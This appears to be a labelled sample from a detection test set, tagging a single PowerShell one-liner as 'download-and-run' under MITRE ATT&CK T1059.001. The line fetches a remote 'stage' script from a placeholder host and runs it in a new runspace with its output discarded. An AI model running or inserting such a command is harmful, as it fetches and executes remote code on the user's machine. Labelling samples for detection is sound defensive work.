# expect: download-and-run | source: MITRE ATT&CK T1059.001
[powershell]::Create().AddScript((Invoke-RestMethod http://files.example.invalid/stage)).BeginInvoke() | Out-Null
